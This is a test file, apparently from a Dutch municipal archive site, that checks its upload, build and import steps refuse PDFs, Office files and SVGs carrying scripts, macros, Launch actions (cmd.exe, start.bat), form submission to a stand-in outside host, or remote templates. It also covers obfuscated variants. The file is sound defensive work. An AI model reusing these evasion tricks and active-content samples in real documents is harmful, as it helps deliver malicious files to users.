/**
 * Files that would run code on the municipality's domain are refused by the
 * check, the build and the import alike: PDFs with JavaScript or with actions
 * that start a program, send a form elsewhere, read another file or open an
 * embedded document — in every place a PDF can hang them, with names written
 * in #xx escapes and objects packed in compressed object streams — and office
 * files with macros. Embedded files in a PDF are only warned about, by name.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import CFB from 'cfb';
import { describe, expect, it } from 'vitest';
import { checkArchive } from '../src/lib/content/check';
import { takeFile } from '../src/lib/content/intake';
import { formatContentError } from '../src/lib/errors/content-error';
import { importFile } from '../src/lib/import/import-letters';
import { copyFixture, fingerprint, projectCopy, projectRoot } from './helpers/build';
import { docx, zip } from './helpers/docx';
import { buildPdf, onePage } from './helpers/pdf';

const HINT = 'Vraag de afzender om een pdf zonder scripts, of druk hem af als pdf';

/** Each way of hanging an action into a PDF, with what the check must say about it. */
const PDF_CASES: Record<string, { pdf: Record<number, string>; says: string }> = {
  'open-action-escaped': {
    pdf: onePage({ catalog: '/OpenAction 6 0 R', objects: { 6: '<< /#53 /Java#53cript /JS (this.submitForm\\("https://elders.example/"\\)) >>' } }),
    says: 'bevat JavaScript (bij het openen van het document)',
  },
  'names-tree': {
    pdf: onePage({ catalog: '/Names << /JavaScript 6 0 R >>', objects: { 6: '<< /Names [(init) 7 0 R] >>', 7: '<< /S /JavaScript /JS 8 0 R >>', 8: '<< /Length 10 >>\nstream\napp.beep()\nendstream' } }),
    says: 'bevat JavaScript (in de scripts en namen van het document)',
  },
  'document-actions': {
    pdf: onePage({ catalog: '/AA << /WP << /S /JavaScript /JS (app.alert\\(1\\)) >> >>' }),
    says: 'bevat JavaScript (bij openen, sluiten, opslaan of afdrukken van het document)',
  },
  'page-action': {
    pdf: onePage({ page: '/AA << /O 6 0 R >>', objects: { 6: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' } }),
    says: 'bevat JavaScript (bij het openen of sluiten van pagina 1)',
  },
  'link-launch': {
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >> >>' } }),
    says: 'bevat een actie die een ander programma of bestand start (Launch) (in een link op pagina 1)',
  },
  'annotation-javascript': {
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /Text /Rect [72 700 90 720] /Contents (Opmerking) /AA << /E << /S /JavaScript /JS (1) >> >> >>' } }),
    says: 'bevat JavaScript (in een notitie of aantekening op pagina 1)',
  },
  'field-submit': {
    pdf: onePage({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      objects: { 6: '<< /Type /Annot /Subtype /Widget /FT /Btn /T (verstuur) /Rect [72 600 200 620] /A << /S /SubmitForm /F << /FS /URL /F (https://elders.example/ontvang) >> >> >>' },
    }),
    says: 'bevat een actie die formuliergegevens naar een andere site verstuurt (SubmitForm) (in een formulierveld of knop op pagina 1)',
  },
  'field-javascript': {
    pdf: onePage({ catalog: '/AcroForm << /Fields [6 0 R] >>', objects: { 6: '<< /FT /Tx /T (bedrag) /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >> >>' } }),
    says: 'bevat JavaScript (in het formulier van het document)',
  },
  'xfa-script': {
    pdf: onePage({
      catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>',
      objects: { 6: '<< /Length 93 >>\nstream\n<template><subform><field><event activity="initialize"><script>app.alert(1)</script></event></field></subform></template>\nendstream' },
    }),
    says: 'bevat een XFA-formulier met scripts of verzendknoppen (in het formulier van het document)',
  },
  'import-data': {
    pdf: onePage({ catalog: '/OpenAction << /S /ImportData /F (gegevens.fdf) >>' }),
    says: 'bevat een actie die gegevens uit een ander bestand inleest (ImportData) (bij het openen van het document)',
  },
  'goto-embedded': {
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /GoToE /T << /R /C /N (bijlage.pdf) >> /D [0 /Fit] >> >>' } }),
    says: 'bevat een actie die een ingesloten document opent (GoToE) (in een link op pagina 1)',
  },
  'script-link': {
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>' } }),
    says: 'bevat een javascript:-link (in een link op pagina 1)',
  },
  'deep-next-chain': {
    // pdf.js follows /Next to the end and runs the script 300 actions down.
    pdf: onePage({ page: '/AA << /O 6 0 R >>', objects: { 6: `${'<< /S /GoTo /D [3 0 R /Fit] /Next '.repeat(300)}<< /S /JavaScript /JS (app.alert\\(1\\)) >>${' >>'.repeat(300)}` } }),
    // MuPDF gives up at a few hundred levels; what it cannot read, the bytes and object streams decide.
    says: 'is beschadigd en bevat /JavaScript (een script of actie) op een plek die niet betrouwbaar te controleren is',
  },
  'inherited-field-action': {
    // A widget whose field is a direct dictionary: the field's keystroke script is inherited by the widget.
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /Widget /Rect [72 600 200 620] /Parent << /FT /Tx /T (bedrag) /AA << /K << /S /JavaScript /JS (event.rc = true) >> >> >> >>' } }),
    says: 'bevat JavaScript (in een formulierveld of knop op pagina 1)',
  },
  'remote-file': {
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >> >>' } }),
    says: 'bevat een actie die een ander bestand opent (GoToR) (in een link op pagina 1)',
  },
  'file-link': {
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>' } }),
    says: 'bevat een link naar een bestand op een computer of netwerkschijf (in een link op pagina 1)',
  },
  '3d-javascript': {
    pdf: onePage({ page: '/Annots [6 0 R]', objects: { 6: '<< /Type /Annot /Subtype /3D /Rect [72 500 300 700] /3DD 7 0 R >>', 7: '<< /Type /3D /Subtype /U3D /OnInstantiate 8 0 R /Length 4 >>\nstream\nU3D \nendstream', 8: '<< /Length 9 >>\nstream\nhost.x=1;\nendstream' } }),
    says: 'bevat JavaScript in een 3D-afbeelding (in ingebedde media op pagina 1)',
  },
  'unreferenced-action': {
    pdf: onePage({ objects: { 6: '<< /S /Launch /F (start.bat) >>' } }),
    says: 'bevat een actie die een ander programma of bestand start (Launch) (in een los object in het bestand)',
  },
};

/** The same file with every object but the page content packed into a compressed object stream. */
function packed(objects: Record<number, string>): Buffer {
  return buildPdf({ objects, packed: Object.keys(objects).map(Number).filter((n) => !/\bstream\n/.test(objects[n]!)) });
}

const EMBEDDED = onePage({
  catalog: '/Names << /EmbeddedFiles << /Names [(Mail aan bewoner.msg) 6 0 R] >> >>',
  page: '/Annots [8 0 R]',
  objects: {
    6: '<< /Type /Filespec /F (Mail aan bewoner.msg) /UF (Mail aan bewoner.msg) /EF << /F 7 0 R >> >>',
    7: '<< /Type /EmbeddedFile /Length 5 >>\nstream\nHallo\nendstream',
    8: '<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS << /Type /Filespec /F (foto.jpg) /EF << /F 9 0 R >> >> >>',
    9: '<< /Type /EmbeddedFile /Length 4 >>\nstream\nJFIF\nendstream',
  },
});

const CONTENT_TYPES_DOCX = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const DOCUMENT_XML = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Brief</w:t></w:r></w:p></w:body></w:document>';

/** An old Excel file whose workbook stream names one sheet of type `sheetType` (0 worksheet, 1 macro sheet). */
function xls(sheetType: number, extra: Record<string, Buffer> = {}): Buffer {
  const record = (type: number, data: Buffer) => Buffer.concat([Buffer.from([type & 0xff, type >> 8, data.length & 0xff, data.length >> 8]), data]);
  const name = Buffer.from('Blad1', 'latin1');
  const boundsheet = Buffer.concat([Buffer.alloc(4), Buffer.from([0, sheetType, name.length, 0]), name]);
  const workbook = Buffer.concat([record(0x0809, Buffer.from([0, 6, 5, 0, 0, 0, 0, 0])), record(0x0085, boundsheet), record(0x000a, Buffer.alloc(0))]);
  return ole({ '/Workbook': workbook, ...extra });
}

function ole(streams: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [path, content] of Object.entries(streams)) CFB.utils.cfb_add(container, path, content);
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
}

const OFFICE_CASES: Record<string, { file: Buffer; says: string }> = {
  'brief-met-macros.docx': { file: zip({ '[Content_Types].xml': CONTENT_TYPES_DOCX, 'word/document.xml': DOCUMENT_XML, 'word/vbaProject.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) }), says: 'bevat VBA-macro’s (word/vbaProject.bin)' },
  'hernoemd.docx': {
    file: zip({ '[Content_Types].xml': CONTENT_TYPES_DOCX.replace('wordprocessingml.document.main+xml', 'x').replace('application/vnd.openxmlformats-officedocument.x', 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'word/document.xml': DOCUMENT_XML }),
    says: 'is opgeslagen in een formaat met macro’s (application/vnd.ms-word.document.macroEnabled.main+xml) en daarna hernoemd',
  },
  'begroting.xlsx': { file: zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }), says: 'bevat Excel 4.0-macro’s (xl/macrosheets/sheet1.xml)' },
  'knoppen.docx': { file: zip({ '[Content_Types].xml': CONTENT_TYPES_DOCX, 'word/document.xml': DOCUMENT_XML, 'word/activeX/activeX1.xml': '<ax:ocx/>' }), says: 'bevat ActiveX-besturingselementen (programma’s in het document) (word/activeX/activeX1.xml)' },
  'notitie.odt': { file: zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office:document-content/>', 'Basic/Standard/Module1.xml': '<script:module/>', 'Basic/Standard/script-lb.xml': '<library:library/>' }), says: 'bevat LibreOffice Basic-macro’s (Basic/Standard/Module1.xml)' },
  'verstopt.docx': {
    // The VBA part under another name: Word finds it through its relationship, not its name.
    file: zip({ '[Content_Types].xml': CONTENT_TYPES_DOCX, 'word/document.xml': DOCUMENT_XML, 'word/data.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), 'word/_rels/document.xml.rels': "<Relationships><Relationship Id='r1' Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='data.bin'/></Relationships>" }),
    says: 'bevat VBA-macro’s (verwezen vanuit word/_rels/document.xml.rels)',
  },
  'gecodeerd.docx': {
    file: zip({ '[Content_Types].xml': "<Types><Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/></Types>", 'word/document.xml': DOCUMENT_XML }),
    says: 'is opgeslagen in een formaat met macro’s (application/vnd.ms-word.document.macroEnabled.main+xml) en daarna hernoemd',
  },
  'sjabloon-van-elders.docx': {
    file: zip({ '[Content_Types].xml': CONTENT_TYPES_DOCX, 'word/document.xml': DOCUMENT_XML, 'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://elders.example/sjabloon.dotm" TargetMode="External"/></Relationships>' }),
    says: 'haalt bij het openen een sjabloon of object van elders op (https://elders.example/sjabloon.dotm), dat macro’s kan bevatten',
  },
  'versleuteld.xls': {
    file: ole({ '/Workbook': Buffer.from([0x09, 0x08, 0x08, 0x00, 0, 6, 5, 0, 0, 0, 0, 0, 0x2f, 0x00, 0x02, 0x00, 0, 0, 0x0a, 0x00, 0x00, 0x00]) }),
    says: 'is beveiligd met een wachtwoord (versleuteld), zodat de macro’s erin niet te controleren zijn',
  },
  'lange-tekening.svg': { file: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><!-- ${'x'.repeat(70_000)} --><script>alert(1)</script></svg>`), says: 'is een SVG met code' },
  'voorvoegsel.svg': { file: Buffer.from('<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>'), says: 'is een SVG met code' },
  'gecodeerd.svg': { file: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#106;ava&#x09;script:alert(1)"><text>klik</text></a></svg>'), says: 'is een SVG met code' },
  'oud.doc': { file: ole({ '/WordDocument': Buffer.alloc(512, 1), '/Macros/VBA/dir': Buffer.alloc(64, 2) }), says: 'bevat VBA-macro’s (Macros' },
  'oud.xls': { file: ole({ '/Workbook': Buffer.alloc(64), '/_VBA_PROJECT_CUR/VBA/dir': Buffer.alloc(64, 2) }), says: 'bevat VBA-macro’s (_VBA_PROJECT_CUR' },
  'macroblad.xls': { file: xls(1), says: 'bevat een Excel 4.0-macroblad' },
};

/** The basis fixture with `files` as attachments of its Markdown letter, in this order. */
function archiveWith(files: Record<string, Buffer>) {
  const fixture = copyFixture('basis');
  const letter = join(fixture.content, 'stukken/brief-md.md');
  const list = Object.keys(files).map((name) => `  - { titel: "${name}", bestand: "bijlagen/${name}" }`).join('\n');
  writeFileSync(letter, readFileSync(letter, 'utf8').replace('gerelateerd: [brief-mdx]\n', `gerelateerd: [brief-mdx]\nbijlagen:\n${list}\n`));
  mkdirSync(join(fixture.content, 'stukken/bijlagen'), { recursive: true });
  for (const [name, content] of Object.entries(files)) writeFileSync(join(fixture.content, 'stukken/bijlagen', name), content);
  return fixture;
}

const checkOf = (fixture: { content: string; data: string }) => checkArchive({ contentRoot: fixture.content, dataRoot: fixture.data });

describe('PDFs that run code', () => {
  const files: Record<string, Buffer> = {};
  for (const [name, { pdf }] of Object.entries(PDF_CASES)) {
    files[`${name}.pdf`] = buildPdf({ objects: pdf });
    files[`${name}-objectstroom.pdf`] = packed(pdf);
  }

  it('are refused by the check, each with its field, where the action hangs and what to do — plain and in an object stream', () => {
    const result = checkOf(archiveWith(files));
    const messages = result.errors.filter((e) => e.file.endsWith('brief-md.md'));
    const names = Object.keys(files);
    expect(messages.map((e) => e.message).sort(), names.filter((n) => !messages.some((e) => e.message.includes(`"bijlagen/${n}"`))).join(', ')).toHaveLength(names.length);
    for (const [index, name] of names.entries()) {
      const says = PDF_CASES[name.replace(/(-objectstroom)?\.pdf$/, '')]!.says;
      const error = messages.find((e) => e.message.includes(`"bijlagen/${name}"`));
      expect(error, name).toBeDefined();
      expect(formatContentError(error!)).toContain(`bijlagen[${index + 1}].bestand: de pdf "bijlagen/${name}" ${says}`);
      expect(error!.line).toBe(12 + index);
      expect(error!.hint).toContain(HINT);
    }
  });

  it('finds the object stream really compressed and the escaped name really escaped in the file', () => {
    const file = packed(PDF_CASES['open-action-escaped']!.pdf);
    const text = file.toString('latin1');
    expect(text).toContain('/Type /ObjStm');
    expect(text).toContain('/Filter /FlateDecode');
    expect(text).not.toContain('JavaScript');
    expect(text).not.toContain('Java#53cript');
    expect(buildPdf({ objects: PDF_CASES['open-action-escaped']!.pdf }).toString('latin1')).not.toContain('/JavaScript');
  });

  it('let an XFA form without scripts or submit buttons through', () => {
    const form = onePage({ catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>', objects: { 6: '<< /Length 60 >>\nstream\n<template><subform><field name="naam"/></subform></template>\nendstream' } });
    const result = checkOf(archiveWith({ 'formulier.pdf': buildPdf({ objects: form }) }));
    expect(result.errors.map(formatContentError)).toEqual([]);
  });

  it('let a plain letter, the sample archive’s signed originals and a damaged file without actions through', () => {
    const samples = readdirSync(join(projectRoot, 'content/stukken/bijlagen')).filter((name) => name.endsWith('.pdf'));
    const result = checkOf(archiveWith({
      'brief.pdf': buildPdf({ objects: onePage() }),
      'brief-objectstroom.pdf': packed(onePage()),
      'afgebroken.pdf': Buffer.from('%PDF-1.7\nafgebroken bij het opslaan\n'),
      ...Object.fromEntries(samples.map((name) => [name, readFileSync(join(projectRoot, 'content/stukken/bijlagen', name))])),
    }));
    expect(result.errors.map(formatContentError)).toEqual([]);
  });

  it('refuses a file a viewer would repair into another document than MuPDF does', () => {
    // Two copies of object 6 and no cross-reference table: MuPDF keeps the harmless one, pdf.js the script.
    const repaired = Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n' +
        '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n6 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n' +
        '6 1 obj << /S /GoTo /D [3 0 R /Fit] >> endobj\ntrailer << /Root 1 0 R >>\nstartxref\n99999\n%%EOF\n',
      'latin1',
    );
    const result = checkOf(archiveWith({ 'hersteld.pdf': repaired }));
    expect(result.errors.map(formatContentError).join('\n')).toMatch(/de pdf "bijlagen\/hersteld\.pdf" (?:bevat JavaScript|is beschadigd en bevat \/J(?:S|avaScript))/);
  });

  it('refuses a damaged file that names an action nothing could read', () => {
    const result = checkOf(archiveWith({ 'kapot.pdf': Buffer.from('%PDF-1.7\n<< /S /Java#53cript /JS (x) >>') }));
    expect(result.errors.map(formatContentError).join('\n')).toContain('de pdf "bijlagen/kapot.pdf" is beschadigd en bevat /JavaScript');
  });

  it('with embedded files only warn, naming each file, so the Woo-coordinator can decide', () => {
    const result = checkOf(archiveWith({ 'mail-met-bijlagen.pdf': buildPdf({ objects: EMBEDDED }), 'mail-objectstroom.pdf': packed(EMBEDDED) }));
    expect(result.errors.map(formatContentError)).toEqual([]);
    const warnings = result.warnings.filter((w) => w.file.endsWith('brief-md.md'));
    expect(warnings.map((w) => w.message)).toEqual([
      'bijlagen[1].bestand: de pdf "bijlagen/mail-met-bijlagen.pdf" bevat 2 ingesloten bestanden: "foto.jpg", "Mail aan bewoner.msg"',
      'bijlagen[2].bestand: de pdf "bijlagen/mail-objectstroom.pdf" bevat 2 ingesloten bestanden: "foto.jpg", "Mail aan bewoner.msg"',
    ]);
    expect(warnings[0]!.hint).toContain('Woo-coördinator');
  });
});

describe('office files with macros, and SVG with code', () => {
  it('are refused by the check, whatever their name says', () => {
    const result = checkOf(archiveWith(Object.fromEntries(Object.entries(OFFICE_CASES).map(([name, { file }]) => [name, file]))));
    const messages = result.errors.filter((e) => e.file.endsWith('brief-md.md'));
    expect(messages).toHaveLength(Object.keys(OFFICE_CASES).length);
    for (const [name, { says }] of Object.entries(OFFICE_CASES)) {
      const error = messages.find((e) => e.message.includes(`"bijlagen/${name}"`));
      expect(error?.message, name).toContain(`"bijlagen/${name}" ${says}`);
      if (!name.endsWith('.svg')) expect(error!.hint).toContain('sla het op als gewoon document zonder macro’s');
    }
  });

  it('warn about an object embedded in a Word file, by name', () => {
    const result = checkOf(archiveWith({ 'met-object.docx': zip({ '[Content_Types].xml': CONTENT_TYPES_DOCX, 'word/document.xml': DOCUMENT_XML, 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) }) }));
    expect(result.errors.map(formatContentError)).toEqual([]);
    expect(result.warnings.map((w) => w.message)).toContain('bijlagen[1].bestand: "bijlagen/met-object.docx" bevat een ingesloten object: "oleObject1.bin"');
  });

  it('let plain Word, Excel and OpenDocument files through', () => {
    const result = checkOf(archiveWith({
      'brief.docx': docx([{ p: 'Geachte raadsleden,' }]),
      'cijfers.xls': xls(0),
      'tabel.xlsx': zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' }),
      'notitie.odt': zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office:document-content/>' }),
    }));
    expect(result.errors.map(formatContentError)).toEqual([]);
  });
});

describe('npm run new and npm run import', () => {
  it('refuse a PDF with a script or a Word file with macros, and write nothing', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'ra-actief-'));
    const letter = ['Gemeente Almelo', 'Datum: 15 juli 2025', 'Ons kenmerk: UIT-25000999', 'Onderwerp: Parkeren in de binnenstad', '', 'Geachte leden van de raad,', '', 'Het college informeert u over het parkeren.'];
    writeFileSync(join(folder, 'brief.pdf'), packed(onePage({ lines: letter, catalog: '/OpenAction 6 0 R', objects: { 6: '<< /S /Java#53cript /JS (app.alert\\(1\\)) >>' } })));
    writeFileSync(join(folder, 'brief.docx'), OFFICE_CASES['brief-met-macros.docx']!.file);

    const taken = takeFile(join(folder, 'brief.pdf'), folder);
    expect('problem' in taken && taken.problem.message).toContain('bevat JavaScript (bij het openen van het document)');

    const fixture = copyFixture('basis');
    const before = fingerprint(fixture.content);
    for (const [name, says] of [['brief.pdf', 'bevat JavaScript (bij het openen van het document)'], ['brief.docx', 'bevat VBA-macro’s (word/vbaProject.bin)']] as const) {
      const result = await importFile(join(folder, name), name, { contentRoot: fixture.content, dataRoot: fixture.data, organisatie: 'almelo' });
      expect(result.outcome).toBe('mislukt');
      expect(result.message).toContain(says);
      expect(result.hint).toMatch(/zonder scripts|zonder macro’s/);
    }
    expect(fingerprint(fixture.content)).toEqual(before);
  });

  it('import a PDF letter with embedded files, and say which files to look at', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'ra-ingesloten-'));
    const letter = ['Gemeente Almelo', 'Datum: 15 juli 2025', 'Ons kenmerk: UIT-25000998', 'Onderwerp: Parkeren in de binnenstad', '', 'Geachte leden van de raad,', '', 'Het college informeert u over het parkeren.'];
    writeFileSync(join(folder, 'brief.pdf'), buildPdf({ objects: { ...EMBEDDED, ...onePage({ lines: letter, catalog: '/Names << /EmbeddedFiles << /Names [(Mail aan bewoner.msg) 6 0 R] >> >>', page: '/Annots [8 0 R]' }) } }));
    const fixture = copyFixture('basis');
    const result = await importFile(join(folder, 'brief.pdf'), 'brief.pdf', { contentRoot: fixture.content, dataRoot: fixture.data, organisatie: 'almelo' });
    expect(result.outcome, result.message).toBe('nakijken');
    expect(result.notes.join('\n')).toContain('bevat 2 ingesloten bestanden: "foto.jpg", "Mail aan bewoner.msg"');
  });
});

describe('npm run build', () => {
  it('stops on a PDF with a script, says which file and what to do, and leaves dist/ as it was', { timeout: 600_000 }, () => {
    const root = projectCopy();
    const fixture = copyFixture('basis');
    const env = { ...process.env, NO_COLOR: '1', RAADSARCHIEF_CONTENT: fixture.content, RAADSARCHIEF_DATA: fixture.data };
    const npmBuild = () => spawnSync(join(root, 'node_modules/.bin/tsx'), ['scripts/build.ts'], { cwd: root, encoding: 'utf8', env });
    const good = npmBuild();
    expect(good.status, good.stderr).toBe(0);
    const before = fingerprint(join(root, 'dist'));

    const letter = join(fixture.content, 'stukken/brief-md.md');
    writeFileSync(letter, readFileSync(letter, 'utf8').replace('gerelateerd: [brief-mdx]\n', 'gerelateerd: [brief-mdx]\norigineel: bijlagen/ondertekend.pdf\n'));
    mkdirSync(join(fixture.content, 'stukken/bijlagen'), { recursive: true });
    writeFileSync(join(fixture.content, 'stukken/bijlagen/ondertekend.pdf'), packed(PDF_CASES['field-submit']!.pdf));
    const bad = npmBuild();
    const output = `${bad.stdout}\n${bad.stderr}`;
    expect(bad.status).not.toBe(0);
    expect(output).toMatch(/stukken\/brief-md\.md:11:\d+ {2}origineel: de pdf "bijlagen\/ondertekend\.pdf" bevat een actie die formuliergegevens naar een andere site verstuurt \(SubmitForm\)/);
    expect(output).toContain(HINT);
    expect(output).toContain('de vorige versie in dist/ is ongewijzigd');
    expect(fingerprint(join(root, 'dist'))).toEqual(before);
    expect(existsSync(join(root, 'dist/stukken/brief-md/ondertekend.pdf'))).toBe(false);
  });
});
